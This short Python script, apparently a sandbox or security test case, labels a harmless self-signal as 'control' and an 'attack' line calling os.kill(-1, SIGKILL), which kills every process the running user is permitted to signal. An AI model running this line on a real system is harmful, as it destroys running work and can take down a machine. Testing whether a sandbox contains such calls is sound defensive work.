"""Kills every process that it may."""

import os
import signal

# control:
os.kill(os.getpid(), 0)
# attack:
os.kill(-1, signal.SIGKILL)
